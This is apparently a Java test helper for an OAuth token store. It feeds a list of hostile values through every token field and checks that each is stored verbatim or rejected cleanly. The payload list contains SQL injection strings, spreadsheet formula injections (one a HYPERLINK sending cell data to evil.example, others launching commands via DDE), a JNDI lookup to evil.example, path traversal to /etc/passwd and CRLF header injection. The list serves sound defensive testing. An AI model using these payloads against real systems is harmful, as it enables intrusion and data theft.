package io.github.tokenstore.security;

import io.github.tokenstore.OAuthToken;
import io.github.tokenstore.TokenStore;
import io.github.tokenstore.UserSignature;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A corpus of hostile values and the check that runs them through a store: each value in each field is
 * stored verbatim or rejected with a typed {@code IllegalArgumentException} whose message starts with a
 * value-rule ID; afterwards the store holds exactly the accepted tokens and an unrelated token is
 * unchanged.
 */
public final class HostileInput {

    /** At least 50 payloads: SQL, CSV/formula injection, overlong, control characters, bad Unicode, NUL… */
    public static final List<String> PAYLOADS = List.of(
            "' OR '1'='1", "'; DROP TABLE tokenstore_token; --", "\"; DROP TABLE tokenstore_token; --",
            "1; DELETE FROM tokenstore_token", "' UNION SELECT client_secret FROM tokenstore_token --",
            "admin'--", "%' OR user_name LIKE '%", "\\'; SELECT pg_sleep(5); --", "1' AND SLEEP(5)#",
            "$$; DROP TABLE x; $$", "/* comment */ SELECT 1", "`backtick`", "\\", "\\\\0", "%_%",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1",
            "a,b,c", "\"quoted\"", "\"", "\"\"", "line1\nline2", "line1\r\nline2", "trailing\n", "\n", ",",
            ",,,,,,,,,,", "\"a\",\"b\"\n\"c\"",
            "x".repeat(255), "y".repeat(256), "z".repeat(2049), "t".repeat(8192), "u".repeat(8193),
            "long line ".repeat(5000),
            "\u0001\u0002\u0003\u0007\u0008\u001b[31mred\u001b[0m", "\u007f\u0080\u009f", "bell\u0007",
            "\ud800", "ab\udc00cd", "\udbff", "emoji \ud83d\ude00 ok", "\ud83d",
            "nul\u0000inside", "\u0000",
            "\u202eevil\u202c", "\u202dLTR\u202c\u2066iso\u2069", "\u200b\u200c\u200d\ufeff", "\ufffd\uffff\ufffe",
            "Ünïcødé ñ 中文 العربية", "   ", " leading and trailing ", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "../../etc/passwd", "%00", "%0d%0aSet-Cookie: x=y",
            "null", "NULL", "undefined", "0", "-1", "9".repeat(30), "v1:k1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");

    /** The fields a payload goes into, each as a builder step. */
    private static final List<String> FIELDS = List.of("user", "clientId", "clientSecret", "refreshToken",
            "accessToken", "grantToken", "redirectUrl", "apiDomain", "dataCenter", "account", "client");

    private HostileInput() {
    }

    private static OAuthToken.Builder with(String field, String value, int index) {
        OAuthToken.Builder b = OAuthToken.builder().user("hostile-" + index).clientId("client")
                .accessToken("access-" + index).refreshToken("refresh-" + index).expiresAt(Instant.ofEpochMilli(1));
        return switch (field) {
            case "user" -> b.user(value);
            case "clientId" -> b.clientId(value);
            case "clientSecret" -> b.clientSecret(value);
            case "refreshToken" -> b.refreshToken(value);
            case "accessToken" -> b.accessToken(value);
            case "grantToken" -> b.grantToken(value);
            case "redirectUrl" -> b.redirectUrl(value);
            case "apiDomain" -> b.apiDomain(value);
            case "dataCenter" -> b.dataCenter(value);
            case "account" -> b.account(value);
            case "client" -> b.client(value);
            default -> throw new IllegalArgumentException(field);
        };
    }

    /** Figures of one run. */
    public record Result(int stored, int rejected) {
    }

    /**
     * Runs every payload in every field through {@code store} (empty at the start), then checks the rows.
     *
     * @param reopen gives a new store instance on the same storage, or {@code null} for a store that
     *               cannot be reopened
     */
    public static Result run(TokenStore store, java.util.function.Supplier<TokenStore> reopen) {
        OAuthToken sentinel = store.saveToken(TestKeys.secretToken("sentinel"));
        List<OAuthToken> accepted = new ArrayList<>();
        int rejected = 0;
        int index = 0;
        for (String payload : PAYLOADS) {
            for (String field : FIELDS) {
                index++;
                OAuthToken token;
                try {
                    token = with(field, payload, index).build();
                } catch (IllegalArgumentException e) {
                    // The data center (a location code, 0970) and the client (a name, 1000) have their own rules;
                    // every other field the text rules.
                    assertThat(e.getMessage()).as(field + " " + index).matches(switch (field) {
                        case "dataCenter" -> "(?s)TOKENSTORE-0970: dataCenter .*";
                        case "client" -> "(?s)TOKENSTORE-1000: client .*";
                        default -> "(?s)TOKENSTORE-000[1-4]: .*";
                    });
                    assertThat(e.getMessage()).as("the message does not echo the value")
                            .doesNotContain(payload.length() > 3 ? payload : "\u0000never");
                    rejected++;
                    continue;
                }
                if (token.userSignature() != null
                        && accepted.stream().anyMatch(t -> token.userSignature().equals(t.userSignature()))) {
                    continue; // a user name repeats in the corpus ("null" vs "NULL" do not): same row
                }
                OAuthToken saved = store.saveToken(token);
                assertThat(saved).as(field + " " + index).isEqualTo(token.toBuilder().id(saved.id()).build());
                assertThat(store.findTokenById(saved.id())).as(field + " " + index).contains(saved);
                if (token.userSignature() != null) {
                    assertThat(store.findToken(OAuthToken.builder().userSignature(token.userSignature())
                            .client(token.client()).build()))
                            .as(field + " " + index).contains(saved);
                }
                accepted.add(saved);
            }
        }
        check(store, sentinel, accepted);
        if (reopen != null) {
            try (TokenStore again = reopen.get()) {
                check(again, sentinel, accepted);
            }
        }
        return new Result(accepted.size(), rejected);
    }

    private static void check(TokenStore store, OAuthToken sentinel, List<OAuthToken> accepted) {
        List<OAuthToken> all = store.getTokens();
        assertThat(all).hasSize(accepted.size() + 1).containsAll(accepted).contains(sentinel);
        assertThat(store.findToken(OAuthToken.builder().accessToken(sentinel.accessToken()).build()))
                .contains(sentinel);
    }

    /** Every payload as a user signature: accepted verbatim or rejected with a value-rule ID. */
    public static int userSignatures() {
        int rejected = 0;
        for (String payload : PAYLOADS) {
            Optional<UserSignature> user;
            try {
                user = Optional.of(new UserSignature(payload));
            } catch (IllegalArgumentException e) {
                assertThat(e.getMessage()).matches("(?s)TOKENSTORE-000[1-4]: userSignature\\.name .*");
                rejected++;
                continue;
            }
            assertThat(user.get().name()).isEqualTo(payload);
        }
        return rejected;
    }

}
